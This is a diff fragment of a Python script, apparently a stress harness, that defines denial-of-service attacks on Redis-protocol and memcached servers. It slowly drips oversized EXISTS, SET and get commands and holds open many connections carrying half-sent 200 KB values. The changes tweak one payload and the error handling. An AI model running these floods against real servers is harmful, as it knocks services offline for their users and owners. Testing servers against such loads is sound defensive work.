@@ -36,7 +36,7 @@ def _again(address: str, sent: bytes, held: int = 0) -> Iterator[None]:
     socks: list[socket.socket] = []
     while True:
         sock = dial(address)
-        with contextlib.suppress(OSError):
+        with contextlib.suppress(OSError):  # the store closes the worst
             sock.sendall(sent)
         socks.append(sock)
         if len(socks) > held:
@@ -46,7 +46,7 @@ def _again(address: str, sent: bytes, held: int = 0) -> Iterator[None]:
 
 HALF: Final = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1000000\r\n" + b"y" * 200_000
 ATTACKS: Final[dict[str, Callable[[str, str], Iterator[None]]]] = {
-    "words": lambda resp, _: _drip(resp, b"*65001\r\n$6\r\nEXISTS\r\n" + b"$1\r\nk\r\n" * 60_000, b"$"),
+    "words": lambda resp, _: _drip(resp, b"*65001\r\n$6\r\nEXISTS\r\n" + b"$1\r\nk\r\n" * 60_000, b"$1\r\nk\r\n"),
     "a line": lambda resp, _: _drip(resp, b"SET " + b"x" * 60_000, b"x"),
     "keys": lambda _, memcached: _drip(memcached, b"get" + b" k" * 30_000, b" k"),
     "half values": lambda resp, _: _again(resp, HALF, 100),
@@ -60,8 +60,7 @@ def _main() -> None:
     kind, resp, memcached = sys.argv[1:4]
     attack = ATTACKS[kind](resp, memcached)
     while True:
-        with contextlib.suppress(OSError):
-            next(attack)
+        next(attack)
         time.sleep(_PAUSE_S)
 
 
